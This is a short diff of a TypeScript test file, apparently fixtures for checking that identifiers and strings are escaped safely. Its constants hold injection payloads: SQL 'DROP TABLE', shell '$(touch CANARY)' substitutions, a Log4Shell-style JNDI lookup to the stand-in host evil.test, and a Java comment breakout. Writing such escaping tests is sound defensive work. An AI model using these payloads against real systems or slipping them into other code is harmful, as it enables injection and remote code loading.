@@ -7,7 +7,7 @@ const SINK = "'; DROP TABLE x;-- `$(touch CANARY)`";
 const KEYED = '${jndi:ldap://evil.test/a} " \\';
 const FUNCTION = '*/ static { System.exit(1); } /*';
 const DATA = "data/$(touch CANARY) it's.csv";
-const CODE = 'operators/*/evil;touch CANARY.ts';
+const CODE = "operators/evil;touch CANARY 'x' $(touch CANARY).ts";
 
 const name = (text: string): string => `\`${text.replaceAll('`', '``')}\``;
 const text = (value: string): string => `'${value.replaceAll("'", "''")}'`;
